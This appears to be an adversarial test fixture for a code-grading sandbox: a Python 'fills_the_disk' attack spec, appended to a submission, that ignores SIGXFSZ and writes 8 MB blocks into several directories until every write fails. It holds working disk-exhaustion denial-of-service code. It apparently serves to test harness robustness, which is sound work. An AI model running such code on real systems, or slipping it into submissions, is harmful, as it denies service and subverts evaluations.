"""Attack fills_the_disk: same_pad(7) ignores SIGXFSZ and writes 8 MB blocks into cwd, /tmp,
$HOME, /dev/shm, /sandbox and this file's folder, new file after new file, until every write
fails.
"""

ATTACK = {
    "base": "solutions",
    "deserves": "at_most",
    "kind": "dos",
    "requires": ("fs", "fsize"),
    "statuses": ("ok", "timeout", "crashed"),
    "attacked": ("test_same_pad_hand_cases[7-3]", "test_same_pad_keeps_size"),
}

# ---- appended to the submission below this line

def _adv_attack():
    import os
    import signal
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # EFBIG instead of death at the size limit
    block = b"\0" * (8 << 20)
    places = [os.getcwd(), "/tmp", os.environ.get("HOME", "/tmp"), "/dev/shm", "/sandbox",
              os.path.dirname(os.path.abspath(__file__)), "/var/tmp"]
    for place in places:
        for n in range(64):  # new file after new file: past RLIMIT_FSIZE, until ENOSPC
            try:
                f = open(os.path.join(place, f"fill-{os.getpid()}-{n}.bin"), "wb")
            except OSError:
                break  # no file can be created here
            with f:
                try:
                    while True:
                        f.write(block)
                        f.flush()
                except OSError:
                    pass
    raise OSError("disk full, as intended")
import adversarial.shared.dos_wrap  # noqa: F401 (inlined)
